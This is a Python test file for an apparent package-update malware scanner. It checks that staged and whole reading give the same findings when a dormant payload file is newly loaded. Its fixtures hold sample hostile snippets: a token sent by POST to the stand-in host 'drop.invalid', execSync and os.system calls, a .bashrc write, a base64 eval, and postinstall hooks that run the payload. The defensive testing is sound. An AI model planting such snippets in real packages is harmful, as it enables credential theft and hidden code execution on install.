"""Reading what changed first, and the rest only to explain, gives the answer of reading everything at once."""

from collections.abc import Mapping, Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto._plugins import discover
from lazaretto.app import read
from lazaretto.app.analyse import Analyser, Analysis, Question
from lazaretto.app.opened import Opened
from lazaretto.app.ports import Ecosystem
from lazaretto.app.read import Reader, Reading
from lazaretto.core.finding import Example
from tests.examples import World, app, build_world, rules

EXAMPLES = [
    example for module in discover("lazaretto.detectors", ("CARD", "EXAMPLES", "detect")) for example in module.EXAMPLES
]
ONE_BY_ONE = 1
"""A batch of so few bytes that every step reads one file."""

STEAL = "const o = {host: 'drop.invalid', method: 'POST'};\nrequire('https').request(o).end(process.env.API_TOKEN);\n"
SPAWN = "require('child_process').execSync('id');\n"


class WholeReader(Reader):
    """Reads every file before anybody asks."""

    def reading(self, ecosystem: Ecosystem, opened: Sequence[Opened]) -> Reading:
        """Return a reading with nothing left to read."""
        whole = super().reading(ecosystem, opened)
        while not whole.done:
            whole.more()
        return whole


def analysed(world: World, name: str, version: str, now: object, *, whole: bool) -> Analysis:
    """Ask about a release, in stages or with everything read first."""
    analyser = Analyser(world.ecosystem, world, world, rules(), now)  # type: ignore[arg-type]
    if whole:
        analyser._reader = WholeReader(world, app().claim)
    return analyser.release(Question(world.ecosystem.name(name), world.ecosystem.version(version)))


def check(example: Example) -> Analysis:
    """Assert that both ways of reading say the same of an example and of all that it brings."""
    world, name, version, now = build_world(example)
    staged, whole = (analysed(world, name, version, now, whole=way) for way in (False, True))
    compare(staged, whole)
    return staged


def compare(staged: Analysis, whole: Analysis) -> None:
    """Assert that two analyses have the same records, verdicts and edges."""
    assert staged.records == whole.records
    assert staged.verdict == whole.verdict
    assert staged.outcome is whole.outcome
    assert [followed.edge.dependency for followed in staged.edges] == [f.edge.dependency for f in whole.edges]
    for one, other in zip(staged.edges, whole.edges, strict=True):
        if one.analysis is not None and other.analysis is not None:
            compare(one.analysis, other.analysis)


@pytest.mark.parametrize("batch", [ONE_BY_ONE, read._BATCH], ids=["one by one", "all the rest at once"])
def test_of_every_example(monkeypatch: pytest.MonkeyPatch, batch: int) -> None:
    """Every example of every detector has the same records, however the reading is cut into steps."""
    monkeypatch.setattr(read, "_BATCH", batch)
    for example in EXAMPLES:
        check(example)


def found(analysis: Analysis) -> set[str]:
    """Return the detectors that charge something."""
    return {finding.detector for record in analysis.records.values() for finding in record.findings}


def npm(before: Mapping[str, str], after: Mapping[str, str]) -> Example:
    """Return an update of an npm package whose entry is ``index.js``."""
    return Example(title="", before=before, after=after)


def pypi(before: Mapping[str, str], after: Mapping[str, str]) -> Example:
    """Return an update of a wheel."""
    return Example(title="", before=before, after=after, ecosystem="pypi")


def manifest(**scripts: str) -> str:
    """Return a manifest with lifecycle scripts."""
    lines = ", ".join(f'"{name}": "{command}"' for name, command in scripts.items())
    return f'{{"name": "example-package", "version": "1.0.0", "main": "index.js", "scripts": {{{lines}}}}}\n'


DORMANT = {"lib/payload.js": STEAL + SPAWN}
AWAKE = [
    npm({"index.js": "1;\n", **DORMANT}, {"index.js": "require('./lib/payload');\n", **DORMANT}),
    npm(
        {"index.js": "1;\n", "lib/middle.js": "require('./payload');\n", **DORMANT},
        {"index.js": "require('./lib/middle');\n", "lib/middle.js": "require('./payload');\n", **DORMANT},
    ),
    npm(
        {"index.js": "1;\n", "package.json": manifest(), **DORMANT},
        {"index.js": "1;\n", "package.json": manifest(postinstall="node lib/payload.js"), **DORMANT},
    ),
    npm(
        {"index.js": "1;\n", "package.json": manifest(), "lib/setup.js": "require('./payload');\n", **DORMANT},
        {
            "index.js": "1;\n",
            "package.json": manifest(postinstall="node lib/setup.js"),
            "lib/setup.js": "require('./payload');\n",
            **DORMANT,
        },
    ),
    npm(
        {"index.js": "1;\n", "lib/payload.dat": STEAL},
        {"index.js": "require('./lib/payload.dat');\n", "lib/payload.dat": STEAL},
    ),
    pypi(
        {"pad/__init__.py": "x = 1\n", "pad/extra.py": "import os\nos.system('id')\n"},
        {"pad/__init__.py": "from pad import extra\n", "pad/extra.py": "import os\nos.system('id')\n"},
    ),
]
"""A capability that lay in a file which nothing loaded, and that the update wakes without touching the file."""

ENTRY = {"index.js": "require('./lib/middle');\n"}
AWAKE_FAR_FROM_THE_ENTRY = [
    npm(
        {**ENTRY, "lib/middle.js": "1;\n", **DORMANT},
        {**ENTRY, "lib/middle.js": "require('./payload');\n", **DORMANT},
    ),
    npm(
        {**ENTRY, "lib/middle.js": "1;\n", "lib/last.js": "require('./payload');\n", **DORMANT},
        {**ENTRY, "lib/middle.js": "require('./last');\n", "lib/last.js": "require('./payload'); 1;\n", **DORMANT},
    ),
    npm(
        {"index.js": "require('./lib/data.dat');\n", "lib/data.dat": "1;\n"},
        {"index.js": "require('./lib/data.dat');\n", "lib/data.dat": STEAL},
    ),
    npm(
        {"index.js": "require('./lib/data.dat');\n", "lib/data.dat": "1;\n", **DORMANT},
        {"index.js": "require('./lib/data.dat');\n", "lib/data.dat": "require('./payload');\n", **DORMANT},
    ),
    npm(
        {"index.js": "1;\n", **DORMANT},
        {"index.js": "require(process.argv[2]);\n", **DORMANT},
    ),
]
"""The same, where what leads there is unchanged too and need not have been read."""


@pytest.mark.parametrize("example", [*AWAKE, *AWAKE_FAR_FROM_THE_ENTRY])
def test_a_dormant_file_that_is_woken(example: Example) -> None:
    """The file stands unchanged on both sides; that it runs now is the news, and it is found."""
    assert found(check(example)) & {"autorun-capability-gained", "secret-flows-to-network"}


def test_what_a_hook_loads_runs_whole() -> None:
    """A file under a foreign ending that installation loads: what it newly loads runs at installation too."""
    runs = {"package.json": manifest(postinstall="node lib/a.js"), "lib/a.js": "require('../lib/d.dat');\n"}
    old = {**runs, "index.js": "require('./lib/b.js');\n", "lib/b.js": STEAL}
    update = npm({**old, "lib/d.dat": "1;\n"}, {**old, "lib/d.dat": "require('../index.js');\n"})
    assert "secret-flows-to-network" in found(check(update))


EXPLAINED = [
    npm(
        {"index.js": "require('./run');\n", "run.js": SPAWN, "new.js": "1;\n"},
        {"index.js": "require('./run'); require('./new');\n", "run.js": SPAWN, "new.js": SPAWN},
    ),
    npm(
        {"index.js": "require('./a');\n", "a.js": "require('./b');\n", "b.js": "require('left-pad');\n"},
        {
            "index.js": "require('./a'); 1;\n",
            "a.js": "require('./b');\n",
            "b.js": "require('left-pad');\n",
            "package.json": (
                '{"name": "example-package", "version": "1.0.1", "main": "index.js",\n'
                ' "dependencies": {"left-pad": "^1.0.0"}}\n'
            ),
        },
    ),
    pypi(
        {"pad/__init__.py": "from pad import run\n", "pad/run.py": "import os\nos.system('id')\n"},
        {
            "pad/__init__.py": "from pad import run\nimport os\nos.system('id')\n",
            "pad/run.py": "import os\nos.system('id')\n",
        },
    ),
]
"""What looks new among the changed files alone, and stands in an unchanged one."""


@pytest.mark.parametrize("example", EXPLAINED)
def test_an_unchanged_file_that_explains(monkeypatch: pytest.MonkeyPatch, example: Example) -> None:
    """A line that always did it goes on doing it: reading on takes the charge away."""
    monkeypatch.setattr(read, "_BATCH", ONE_BY_ONE)

    assert not found(check(example))


SNIPPETS = (
    "1;\n",
    SPAWN,
    STEAL,
    "module.exports = () => require('child_process').execSync('id');\n",
    "require('fs').writeFileSync(process.env.HOME + '/.bashrc', 'x');\n",
    "eval(Buffer.from('MSsx', 'base64').toString());\n",
    "require(process.argv[2]);\n",
)
NAMES = ("index.js", "lib/a.js", "lib/b.js", "lib/c.js", "lib/d.dat")


def load(name: str, other: str) -> str:
    """Return the line that loads another file."""
    return f"require('{'../' if '/' in name else './'}{other}');\n"


@st.composite
def packages(draw: st.DrawFn) -> dict[str, str]:
    """Return a small package: files that do something, and load each other."""
    files = {}
    for name in NAMES:
        loads = draw(st.lists(st.sampled_from([other for other in NAMES if other != name]), max_size=2, unique=True))
        files[name] = "".join(load(name, other) for other in loads) + draw(st.sampled_from(SNIPPETS))
    files["package.json"] = manifest(**draw(st.sampled_from([{}, {"postinstall": "node lib/a.js"}])))
    return files


@settings(max_examples=200)
@given(before=packages(), after=packages(), kept=st.sets(st.sampled_from([*NAMES, "package.json"])))
def test_of_any_update(before: dict[str, str], after: dict[str, str], kept: set[str]) -> None:
    """Whatever files load and do, and whichever of them stand unchanged."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(read, "_BATCH", ONE_BY_ONE)
        check(npm(before, {name: before[name] if name in kept else text for name, text in after.items()}))


@pytest.mark.parametrize("ending", ["md", "css", "html", "svg", "vue", "map", "graphql", "dat", "sh", "txt"])
@pytest.mark.parametrize("fresh", [True, False])
def test_code_under_any_ending_is_code_where_code_loads_it(ending: str, fresh: bool) -> None:
    """Node runs ``require('./x.md')`` as JavaScript, and so does the reader, in stages and at once."""
    loads = {"index.js": f"require('./lib/x.{ending}');\n"}
    old = {"index.js": "1;\n"} if fresh else {**loads, f"lib/x.{ending}": "1;\n"}
    staged = check(npm(old, {**loads, f"lib/x.{ending}": STEAL}))
    assert "secret-flows-to-network" in found(staged)


def test_what_code_loads_and_nobody_understands_is_held() -> None:
    """A style sheet that a bundler loads is one; a data file that is no JavaScript after all is a question."""
    sheet = check(npm({"index.js": "1;\n"}, {"index.js": "require('./a.css');\n", "a.css": "a > b { color: red }\n"}))
    assert sheet.complete
    broken = check(npm({"index.js": "1;\n"}, {"index.js": "require('./a.dat');\n", "a.dat": "const = ) = (;\n"}))
    assert not broken.complete
